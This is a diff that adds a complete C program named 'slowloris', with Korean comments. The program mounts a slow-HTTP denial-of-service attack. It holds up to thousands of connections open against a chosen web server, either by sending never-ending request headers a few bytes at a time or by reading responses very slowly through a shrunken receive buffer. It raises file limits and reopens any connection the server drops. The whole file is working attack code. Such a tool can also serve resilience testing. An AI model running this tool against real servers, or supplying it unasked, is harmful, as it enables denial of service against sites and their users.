@@ -0,0 +1,282 @@
+/*
+ * slowloris - 느린 클라이언트를 잔뜩 만들어 서버의 연결과 스레드를 붙잡아 두는 도구
+ *
+ * usage: slowloris -s host:port -u url [-c conns] [-m trickle|read|mix] [-i ms] [-b bytes] [-d seconds] [-O]
+ *
+ * -s  연결할 주소
+ * -u  요청할 URL, 요청 줄에 그대로 쓴다 (-O면 경로만)
+ * -c  유지할 느린 연결 수 (기본 1000), 서버가 끊으면 다시 연다
+ * -m  trickle  요청 헤더를 조금씩 보내고 끝내지 않는다
+ *     read     요청은 한 번에 보내고 응답을 조금씩 읽는다 (수신 버퍼도 작게)
+ *     mix      반씩 (기본)
+ * -i  연결마다 다음 조각을 보내거나 읽기까지의 간격 (ms, 기본 1000)
+ * -b  한 번에 보내거나 읽을 바이트 (기본 4)
+ * -d  실행 시간 (초, 기본 30), SIGINT/SIGTERM을 받아도 끝난다
+ *
+ * 스레드 하나가 논블로킹 소켓을 10ms마다 훑으며 차례가 된 연결만 건드린다
+ * 끝나면 열었던 연결 수, 서버가 끊은 연결 수와 연결이 살아있던 평균 시간을 출력한다
+ */
+#include <errno.h>
+#include <netdb.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+
+#define MAXLINE 8192
+#define TICK_MS 10
+#define SLOW_RCVBUF 1024
+
+#define MODE_TRICKLE 0
+#define MODE_READ 1
+
+#define ST_CLOSED 0
+#define ST_CONNECTING 1
+#define ST_OPEN 2
+
+typedef struct
+{
+    int fd, mode, state;
+    size_t sent; // trickle에서 보낸 요청 바이트
+    int64_t next_us, opened_us;
+} slow_conn;
+
+static struct addrinfo *server_addr;
+static char request[MAXLINE];
+static size_t request_len;
+static int interval_ms = 1000, chunk = 4;
+static volatile sig_atomic_t stop;
+static unsigned long stat_opened, stat_failed, stat_closed;
+static double stat_lifetime_s;
+static uint64_t stat_bytes_sent, stat_bytes_read;
+
+static int64_t now_us(void)
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
+}
+
+static void conn_open(slow_conn *c, int64_t now)
+{
+    int size = SLOW_RCVBUF;
+
+    c->state = ST_CLOSED;
+    c->sent = 0;
+    c->next_us = now + interval_ms * 1000;
+    if ((c->fd = socket(server_addr->ai_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0)) < 0)
+    {
+        stat_failed = stat_failed + 1;
+        return;
+    }
+    // 응답을 천천히 읽는 연결은 수신 버퍼를 작게 해서 서버 쪽 send가 빨리 막히게 한다
+    if (c->mode == MODE_READ)
+        setsockopt(c->fd, SOL_SOCKET, SO_RCVBUF, &size, sizeof(size));
+    if (connect(c->fd, server_addr->ai_addr, server_addr->ai_addrlen) < 0 && errno != EINPROGRESS)
+    {
+        close(c->fd);
+        stat_failed = stat_failed + 1;
+        return;
+    }
+    c->state = ST_CONNECTING;
+    c->opened_us = now;
+    c->next_us = now;
+}
+
+static void conn_close(slow_conn *c, int64_t now, int by_server)
+{
+    close(c->fd);
+    c->state = ST_CLOSED;
+    if (by_server)
+    {
+        stat_closed = stat_closed + 1;
+        stat_lifetime_s = stat_lifetime_s + (now - c->opened_us) / 1e6;
+    }
+    // 곧바로 다시 열면 거절당할 때 빈 루프가 되니 한 간격 쉬었다 연다
+    c->next_us = now + interval_ms * 1000;
+}
+
+// 차례가 된 연결 하나를 한 걸음 진행한다
+static void conn_step(slow_conn *c, int64_t now)
+{
+    struct pollfd pfd;
+    char buf[MAXLINE];
+    int err = 0;
+    socklen_t len = sizeof(err);
+    ssize_t rc;
+    size_t n;
+
+    if (c->state == ST_CLOSED)
+    {
+        conn_open(c, now);
+        return;
+    }
+    if (c->state == ST_CONNECTING)
+    {
+        pfd.fd = c->fd;
+        pfd.events = POLLOUT;
+        if (poll(&pfd, 1, 0) == 0)
+            return; // 아직 연결 중
+        getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
+        if (err != 0)
+        {
+            close(c->fd);
+            c->state = ST_CLOSED;
+            stat_failed = stat_failed + 1;
+            c->next_us = now + interval_ms * 1000;
+            return;
+        }
+        c->state = ST_OPEN;
+        stat_opened = stat_opened + 1;
+        if (c->mode == MODE_READ)
+        {
+            if (send(c->fd, request, request_len, MSG_NOSIGNAL) < 0)
+            {
+                conn_close(c, now, 1);
+                return;
+            }
+            stat_bytes_sent = stat_bytes_sent + request_len;
+        }
+    }
+
+    if (c->mode == MODE_TRICKLE)
+    {
+        // 요청 줄과 헤더를 다 보내면 끝나지 않는 헤더를 계속 붙인다
+        if (c->sent < request_len - 2)
+        {
+            n = request_len - 2 - c->sent < (size_t)chunk ? request_len - 2 - c->sent : (size_t)chunk;
+            rc = send(c->fd, request + c->sent, n, MSG_NOSIGNAL | MSG_DONTWAIT);
+        }
+        else
+            rc = send(c->fd, "X-a: b\r\n", (size_t)chunk < 8 ? (size_t)chunk : 8, MSG_NOSIGNAL | MSG_DONTWAIT);
+        if (rc < 0 && errno != EAGAIN && errno != EWOULDBLOCK)
+        {
+            conn_close(c, now, 1);
+            return;
+        }
+        if (rc > 0)
+        {
+            if (c->sent < request_len - 2)
+                c->sent = c->sent + rc;
+            stat_bytes_sent = stat_bytes_sent + rc;
+        }
+        // 서버가 응답(408 등)을 보내고 닫았는지 본다
+        rc = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
+    }
+    else
+        rc = recv(c->fd, buf, (size_t)chunk < sizeof(buf) ? (size_t)chunk : sizeof(buf), MSG_DONTWAIT);
+    if (rc == 0 || (rc < 0 && errno != EAGAIN && errno != EWOULDBLOCK))
+    {
+        conn_close(c, now, 1);
+        return;
+    }
+    if (rc > 0)
+        stat_bytes_read = stat_bytes_read + rc;
+    c->next_us = now + interval_ms * 1000;
+}
+
+static void on_signal(int sig)
+{
+    stop = 1;
+}
+
+static void usage(char *prog)
+{
+    fprintf(stderr, "usage: %s -s host:port -u url [-c conns] [-m trickle|read|mix] [-i ms] [-b bytes] [-d seconds] [-O]\n", prog);
+    exit(1);
+}
+
+int main(int argc, char **argv)
+{
+    struct addrinfo hints;
+    struct rlimit rl;
+    struct timespec tick = {0, TICK_MS * 1000000};
+    char *server = NULL, *url = NULL, *mode = "mix", *colon, *target, *h, host[MAXLINE];
+    int opt, conns = 1000, duration = 30, origin_form = 0, i, open_now;
+    int64_t start, end, now;
+    slow_conn *cs;
+
+    while ((opt = getopt(argc, argv, "s:u:c:m:i:b:d:O")) != -1)
+    {
+        switch (opt)
+        {
+        case 's': server = optarg; break;
+        case 'u': url = optarg; break;
+        case 'c': conns = atoi(optarg); break;
+        case 'm': mode = optarg; break;
+        case 'i': interval_ms = atoi(optarg); break;
+        case 'b': chunk = atoi(optarg); break;
+        case 'd': duration = atoi(optarg); break;
+        case 'O': origin_form = 1; break;
+        default: usage(argv[0]);
+        }
+    }
+    if (server == NULL || url == NULL || conns <= 0 || interval_ms <= 0 || chunk <= 0 || (colon = strrchr(server, ':')) == NULL)
+        usage(argv[0]);
+    if (strcmp(mode, "trickle") && strcmp(mode, "read") && strcmp(mode, "mix"))
+        usage(argv[0]);
+    *colon = '\0';
+    memset(&hints, 0, sizeof(hints));
+    hints.ai_socktype = SOCK_STREAM;
+    hints.ai_flags = AI_NUMERICSERV | AI_ADDRCONFIG;
+    if (getaddrinfo(server, colon + 1, &hints, &server_addr) != 0)
+    {
+        fprintf(stderr, "%s: cannot resolve %s\n", argv[0], server);
+        exit(1);
+    }
+
+    h = strstr(url, "://");
+    h = h != NULL ? h + 3 : url;
+    snprintf(host, sizeof(host), "%.*s", (int)strcspn(h, "/"), h);
+    target = origin_form && strchr(h, '/') != NULL ? strchr(h, '/') : url;
+    request_len = snprintf(request, sizeof(request), "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowloris\r\n\r\n", target, host);
+
+    // 연결 수만큼 fd가 필요하다
+    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)conns + 64)
+    {
+        rl.rlim_cur = rl.rlim_max < (rlim_t)conns + 64 ? rl.rlim_max : (rlim_t)conns + 64;
+        setrlimit(RLIMIT_NOFILE, &rl);
+    }
+    signal(SIGPIPE, SIG_IGN);
+    signal(SIGINT, on_signal);
+    signal(SIGTERM, on_signal);
+
+    cs = calloc(conns, sizeof(slow_conn));
+    start = now_us();
+    end = start + (int64_t)duration * 1000000;
+    for (i = 0; i < conns; i = i + 1)
+    {
+        cs[i].mode = !strcmp(mode, "read") || (!strcmp(mode, "mix") && i % 2) ? MODE_READ : MODE_TRICKLE;
+        // 여는 시각을 한 간격 안에 고르게 흩어서 한꺼번에 몰리지 않게 한다
+        cs[i].next_us = start + (int64_t)interval_ms * 1000 * i / conns;
+    }
+    while (!stop && (now = now_us()) < end)
+    {
+        for (i = 0; i < conns; i = i + 1)
+        {
+            if (cs[i].next_us <= now || cs[i].state == ST_CONNECTING)
+                conn_step(&cs[i], now);
+        }
+        nanosleep(&tick, NULL);
+    }
+
+    open_now = 0;
+    for (i = 0; i < conns; i = i + 1)
+    {
+        if (cs[i].state == ST_OPEN)
+            open_now = open_now + 1;
+        if (cs[i].state != ST_CLOSED)
+            close(cs[i].fd);
+    }
+    printf("slowloris: %d conns (%s, %d bytes every %d ms): opened %lu, failed %lu, closed by server %lu (avg lifetime %.1fs), open at end %d, sent %llu B, read %llu B\n",
+            conns, mode, chunk, interval_ms, stat_opened, stat_failed, stat_closed,
+            stat_closed > 0 ? stat_lifetime_s / stat_closed : 0.0, open_now,
+            (unsigned long long)stat_bytes_sent, (unsigned long long)stat_bytes_read);
+    return 0;
+}